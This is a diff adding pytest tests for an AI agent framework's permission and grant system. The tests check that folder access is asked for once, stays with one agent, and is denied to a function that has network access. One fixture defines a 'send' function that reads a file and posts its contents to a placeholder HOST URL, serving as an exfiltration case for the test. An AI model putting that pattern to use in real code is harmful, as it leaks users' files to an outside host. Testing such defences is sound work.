@@ -6,6 +6,7 @@ from pathlib import Path
 import pytest
 
 from agent_core import Decision, Question
+from agent_core.access.grants import Grants
 from tests.conftest import OpenDesk
 from tests.kit import Ask, Repeat, Say, Script, Wanted
 from tests.kit.desk import Desk, answers
@@ -49,6 +50,7 @@ def program(code: str) -> Wanted:
 
 SHEETS = "def rows(path):\n    return [int(line) for line in open(path)]\n"
 CHARTS = "def draw(path, numbers):\n    with open(path, 'w') as file:\n        file.write(str(numbers))\n"
+CHARTS += "def entitle(title):\n    pass\n"
 READS = "return [int(line) for line in open(path).read().split()]"
 USES_ALL = 'rows = read_brzeg(folder + "/brzeg.csv") + read_cisowa(folder + "/cisowa.xml")\nreturn sum(rows)'
 NUMBERS = 'import re\nreturn re.findall(r"[BCD]-[0-9]+", text)'
@@ -195,3 +197,83 @@ async def test_a_week_of_work_asks_twelve_questions_and_none_of_them_twice(
 def _with_host(arguments: object, host: str) -> dict[str, object]:
     assert isinstance(arguments, dict)
     return {name: value.replace("HOST", host) if isinstance(value, str) else value for name, value in arguments.items()}
+
+
+STARTERS = Path(__file__).parents[2] / "functions" / "files.py"
+USES_A_STARTER = made("total", "totals", "total(path: str) -> int", "return sum(map(int, read_text(path).split()))")
+CALLS: dict[str, Wanted] = {
+    "lists": Wanted("list_folder", {"path": "depots"}),
+    "reads": Wanted("read_text", {"path": "depots/brzeg.csv"}),
+    "makes": USES_A_STARTER,
+    "uses it": Wanted("total", {"path": "depots/cisowa.xml"}),
+    "in a program": program("read_text('depots/brzeg.csv'), total('depots/brzeg.csv'), list_folder('depots')"),
+}
+
+
+@pytest.mark.parametrize("first", ["lists", "reads", "uses it"])
+async def test_a_folder_is_asked_for_once_whether_a_starter_or_a_function_of_the_agent_opens_it_first(
+    at_desk: OpenDesk, first: str
+) -> None:
+    order = [*(["makes"] if first == "uses it" else []), first]
+    order += [name for name in CALLS if name not in order]
+    desk = await at_desk([Ask(CALLS[name]) for name in order] + [Say("Done.")])
+    lay_out(desk.workspace.root)
+    await desk.save("files.py", STARTERS.read_text())
+    owner = desk.workspace.functions.granting.approver = Owner()
+    told = answers(await desk.say("Go."))
+    assert not any(word in text for text in told for word in ("was not", "raised", "failed", "denied")), told
+    assert len(owner.asked) == 1, owner.asked
+
+
+READS_FOR_A_STRANGER = function_text(
+    "send(self, path: str) -> str",
+    "Send a file.\n\nArgs:\n    path: The file.",
+    'return self.fetch("http://HOST/" + self.call("read_text", path=path)).text()',
+)
+
+
+@pytest.mark.parametrize("case", ["by another agent", "after an edit by hand", "by what may send", "outside of a turn"])
+async def test_a_starter_has_the_folder_of_an_agent_only_for_that_agent_and_as_it_came(
+    at_desk: OpenDesk, host: str, case: str
+) -> None:
+    reads = CALLS["reads"]
+    sends = Wanted("send", {"path": "depots/brzeg.csv"})
+    again = [Ask(sends if case == "by what may send" else reads), Say("No.")] * (case != "outside of a turn")
+    desk = await at_desk([Ask(reads), Say("Done."), *again])
+    lay_out(desk.workspace.root)
+    await desk.save("files.py", STARTERS.read_text())
+    functions = desk.workspace.functions
+    functions.granting.approver = Owner()
+    await desk.say("Go.")
+    if case == "after an edit by hand":
+        await desk.save("files.py", STARTERS.read_text().replace('decode("utf-8-sig")', 'decode("utf-8")'))
+    if case == "by what may send":
+        await desk.save("sends.py", READS_FOR_A_STRANGER.replace("HOST", host))
+        await functions.grants.grant("send", Grants(network=(host,)))
+    functions.granting.approver = None
+    if case == "outside of a turn":
+        report = await functions.call("read_text", {"path": "depots/brzeg.csv"})
+        assert report.outcome != "returned"
+        return
+    agent = await desk.workspace.agent("other") if case == "by another agent" else desk.agent
+    (text,) = answers([event async for event in agent.turn("Go.")])
+    assert "1\n2" not in text, text
+    assert "may not" in text or "grant" in text, text
+
+
+async def test_a_title_that_a_package_gets_is_no_file_and_a_picture_beside_it_is_one_question(
+    at_desk: OpenDesk,
+) -> None:
+    body = "import charts\ncharts.entitle(title)\ncharts.entitle(unit)\ncharts.draw(path, [open(logo).read()])\nreturn path"
+    makes = made("draw", "pictures", "draw(path: str, title: str, unit: str, logo: str) -> str", body)
+    given = {"title": "Seed / month, 2026.5", "unit": "grams", "logo": "logo.png"}
+    calls = [Wanted("draw", {"path": path, **given}) for path in ("depots/chart.png", "chart.png")]
+    desk = await at_desk([Ask(makes), *map(Ask, calls), Say("Done.")])
+    lay_out(desk.workspace.root)
+    owner = desk.workspace.functions.granting.approver = Owner()
+    answers(await desk.say("Go."))
+    assert owner.asked == [
+        "draw: import the package charts",
+        "draw: read logo.png; read and write depots/chart.png",
+        "draw: read and write chart.png",
+    ]
